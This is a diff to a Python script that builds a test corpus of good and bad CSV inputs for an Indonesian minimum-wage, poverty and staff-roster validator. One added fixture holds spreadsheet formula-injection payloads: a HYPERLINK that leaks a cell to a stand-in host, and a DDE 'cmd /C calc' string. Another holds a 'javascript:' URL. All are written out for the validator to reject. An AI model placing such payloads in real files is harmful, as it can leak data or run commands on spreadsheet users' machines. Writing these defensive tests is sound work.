@@ -40,6 +40,26 @@ NIKS = ["3171994501900012", "3171990312850023", "3273991707920034", "32739955088
         "1101992202790067"]
 
 
+#: A roster in the layout Dinas Sosial send (Indonesian headers, a row number, columns the schema does not keep).
+DINSOS_HEADER = ["No", "Nama", "NIK", "NIP", "Jabatan", "Pangkat/Gol", "Status Kepegawaian", "Pendidikan",
+                 "Kode Provinsi", "Kode Kab", "TMT", "Honor", "Beban Kasus", "No HP"]
+# NIPs: birth dates with day 12 (any), appointment 2010–2019, sequence 9xx: illustrative, checked plausible.
+NIPS = ["198503122010011901", "199001122015032902", "", "", "198807122019031903", ""]
+
+
+def dinsos_rows():
+    jab = ["Pekerja Sosial Ahli Pertama", "Penyuluh Sosial Ahli Muda", "Pendamping PKH", "TKSK",
+           "Pekerja Sosial Terampil", "Tenaga Kesejahteraan Sosial Kecamatan"]
+    status = ["PNS", "PNS", "Kontrak", "Relawan", "PPPK", "Relawan"]
+    rows = []
+    for i, nik in enumerate(NIKS):
+        bps = {"31": "31", "32": "32", "11": "11"}[nik[:2]]
+        kab = nik[:4] if bps != "32" else "3273"
+        rows.append([str(i + 1), f"Nama Contoh {i + 1}", nik, NIPS[i], jab[i], "III/a" if NIPS[i] else "", status[i],
+                     "S1", bps, kab, "2019-01-02", "3.000.000,50", "250", "0812-0000-000" + str(i)])
+    return rows
+
+
 def roster_rows(niks=NIKS):
     rows = []
     for i, nik in enumerate(niks):
@@ -266,8 +286,9 @@ def main() -> None:
     amb = [["11", "Aceh", "2027", "3.900", SRC, ""], ["12", "Sumatera Utara", "2027", "3.100", SRC, ""]]
     write_csv(BAD / "ambiguous_thousands.csv", ["bps_code", "province", "year", "ump_rupiah", "source_url", "note"], amb)
     case("ambiguous_thousands.csv", "ump_province", ["row 2", "column 'ump_rupiah'", "3.900", "--decimal"])
-    write_csv(BAD / "ump_with_decimals.csv", UMP_HEADER, UMP_ROWS[:1] + [["12", "Sumatera Utara", "2027", "3.100.000,50", SRC, ""]], delimiter=";")
-    case("ump_with_decimals.csv", "ump_province", ["row 3", "column 'ump_rupiah'", "a whole number"])
+    # Sen are accepted (Rp1.958.169,69 in the Jawa Tengah UMP 2023 decree); a third decimal is not Rupiah.
+    write_csv(BAD / "ump_with_decimals.csv", UMP_HEADER, UMP_ROWS[:1] + [["12", "Sumatera Utara", "2027", "3.100.000,505", SRC, ""]], delimiter=";")
+    case("ump_with_decimals.csv", "ump_province", ["row 3", "column 'ump_rupiah'", "Rupiah with at most 2 decimals (sen)"])
     write_csv(BAD / "symbol_x_where_required.csv", UMP_HEADER, UMP_ROWS[:1] + [["12", "Sumatera Utara", "2027", "x", SRC, ""]])
     case("symbol_x_where_required.csv", "ump_province", ["row 3", "column 'ump_rupiah'", "'x'", "not available for publication"])
     write_csv(BAD / "ellipsis_where_required.csv", UMP_HEADER, UMP_ROWS[:2] + [["13", "Sumatera Barat", "2027", "…", SRC, ""]])
@@ -394,6 +415,62 @@ def main() -> None:
     write_csv(BAD / "roster_to_data_raw.csv", ROSTER_HEADER, roster_rows())
     case("roster_to_data_raw.csv", "staff_roster", ["never stored in data/raw"], problems=0)
 
+    # --- issue 12: wrong input that used to become a wrong number --------------------------------------
+    # A UMP for a province before it existed (Papua Selatan: UU 14/2022 of 25 July 2022).
+    write_csv(BAD / "ump_before_province_created.csv", UMP_HEADER,
+              [["11", "Aceh", "2021", "3165030", SRC, ""], ["95", "Papua Selatan", "2021", "3516700", SRC, ""]])
+    case("ump_before_province_created.csv", "ump_province",
+         ["row 3", "column 'bps_code'", "no row for Papua Selatan (bps_code 95) in 2021", "created on 2022-07-25"])
+    # A ×10 typo (one zero too many) against the province's neighbouring year and the national range.
+    write_csv(BAD / "ump_times_ten.csv", UMP_HEADER,
+              [["11", "Aceh", "2027", "39000000", SRC, ""], ["12", "Sumatera Utara", "2027", "3100000", SRC, ""]])
+    case("ump_times_ten.csv", "ump_province", ["row 2", "column 'ump_rupiah'", "39000000",
+                                               "close to the province's neighbouring year", "×10"])
+    # A poverty round in the future: the report period would become 2015–2099.
+    write_csv(BAD / "poverty_round_2099.csv", POV_HEADER, [["11", "Aceh", "2099", "3", "12.10", "690.50", "", "", SRC, ""]])
+    case("poverty_round_2099.csv", "poverty_province", ["row 2", "column 'year'", "2099",
+                                                        "a round that has already taken place"])
+    # Text a spreadsheet would execute.
+    write_csv(BAD / "formula_in_note.csv", UMP_HEADER,
+              [["11", "Aceh", "2027", "3900000", SRC, '=HYPERLINK("http://x.example/?leak="&A1,"SK")'],
+               ["12", "Sumatera Utara", "2027", "3100000", SRC, "@SUM(1+1)*cmd|' /C calc'!A0"]])
+    case("formula_in_note.csv", "ump_province", ["row 2", "row 3", "column 'note'", "=HYPERLINK", "@SUM",
+                                                 "will not run as a formula"], problems=2)
+    # Source addresses must be http(s).
+    write_csv(BAD / "source_not_http.csv", UMP_HEADER,
+              [["11", "Aceh", "2027", "3900000", "file:///C:/Users/operator/ump.xlsx", ""],
+               ["12", "Sumatera Utara", "2027", "3100000", "javascript:alert(1)", ""]])
+    case("source_not_http.csv", "ump_province", ["row 2", "row 3", "column 'source_url'",
+                                                 "starting with http:// or https://"], problems=2)
+    # An 18-digit NIP (birth date 1985-03-12, appointed 2010-01, man, no. 002) in a note.
+    write_csv(BAD / "nip_in_note.csv", ["provinsi", "tahun", "ump_rupiah", "catatan"],
+              [["Aceh", "2027", "3900000", "SK ditandatangani Kadis, NIP 19850312 201001 1 002"]])
+    case("nip_in_note.csv", "ump_province", ["row 2", "column 'note'", "1985…1002", "no NIP"])
+    # A 16-digit number that fails the NIK checks (province 99) is still withheld from data.
+    write_csv(BAD / "implausible_nik_in_note.csv", ["provinsi", "tahun", "ump_rupiah", "catatan"],
+              [["Aceh", "2027", "3900000", "pengirim 9971994501900012"]])
+    case("implausible_nik_in_note.csv", "ump_province", ["row 2", "column 'note'", "9971…0012",
+                                                         "identifier-like number of 16–18 digits"])
+    # Rows refused for a missing code are not also reported as duplicates of each other.
+    write_csv(BAD / "missing_code_not_duplicate.csv", UMP_HEADER,
+              [["", "", "2027", "3900000", SRC, ""], ["", "", "2027", "3100000", SRC, ""]])
+    case("missing_code_not_duplicate.csv", "ump_province", ["row 2", "row 3", "column 'bps_code'"], problems=2)
+    # Larger than the size limit (here set to 100 bytes): refused before reading, with the override named.
+    write_csv(BAD / "too_large.csv", UMP_HEADER, [r for r in UMP_ROWS])
+    case("too_large.csv", "ump_province", ["a file of at most 0 MB", "--max-mb"], max_bytes=100)
+    # A roster as a Dinas Sosial sends it: title rows, No / Nama / NIK / NIP / Jabatan …, NIP and NIK
+    # damaged by Excel (scientific notation).
+    dinsos = [["DAFTAR NAMA PEGAWAI DINAS SOSIAL PROVINSI DKI JAKARTA"], ["KEADAAN BULAN DESEMBER 2026"], [],
+              DINSOS_HEADER]
+    for r in dinsos_rows():
+        dinsos.append(r)
+    dinsos[5][2] = "3.17E+15"
+    dinsos[6][3] = "1.98E+17"
+    write_csv(BAD / "roster_dinsos_damaged_ids.csv", None, dinsos)
+    case("roster_dinsos_damaged_ids.csv", "staff_roster", ["row 6", "column 'nik'", "'3.17E+15'", "row 7",
+                                                           "column 'nip'", "'1.98E+17'", "scientific notation"],
+         problems=2, command="validate")
+
     (BAD / "expected.yaml").write_text(
         "# Bad-input corpus: file -> table, command (add|validate), options, exact number of problems, message\n"
         "# fragments that the error must contain. Regenerate with tests/corpus/make_corpus.py.\n"
@@ -408,6 +485,18 @@ def main() -> None:
              "19;Kep. Bangka Belitung;2027;3.800.000;"]
     (GOOD / "ump_2027_id_semicolon_cp1252.csv").write_bytes(("\r\n".join(lines) + "\r\n").encode("cp1252"))
     write_csv(GOOD / "roster_valid.csv", ROSTER_HEADER, roster_rows())
+    write_csv(GOOD / "roster_dinsos_layout.csv", None,
+              [["DAFTAR NAMA PEGAWAI DINAS SOSIAL"], ["KEADAAN BULAN DESEMBER 2026"], [], DINSOS_HEADER, *dinsos_rows()])
+    # A UMP year whose decrees carry sen (Jawa Tengah's UMP 2023 decree: Rp1.958.169,69). Values for 2027 are
+    # illustrative (the releases do not exist yet); the 2023 Jawa Tengah value is the decree's.
+    (GOOD / "ump_2027_with_sen.csv").write_text(
+        "provinsi;tahun;ump_rupiah;catatan\nJawa Tengah;2027;2.300.000,45;contoh (ilustrasi)\n"
+        "Aceh;2027;3.900.000,00;contoh (ilustrasi)\nBali;2027;3.200.000,99;contoh (ilustrasi)\n", encoding="utf-8")
+    # A BPS-derived UMP table where 0 means "no UMP set" (U-NABIL style): DIY 2016, and the Papua provinces
+    # before they existed.
+    simple_wide(GOOD / "ump_wide_zeros_2016.xlsx", "Upah Minimum Provinsi (Rupiah)", ["2016"],
+                [("Aceh", 2118500), ("DI Yogyakarta", 0), ("Papua Selatan", 0), ("Papua Barat Daya", 0),
+                 ("Kalimantan", 0), ("INDONESIA", 1997819)])
 
 
 if __name__ == "__main__":
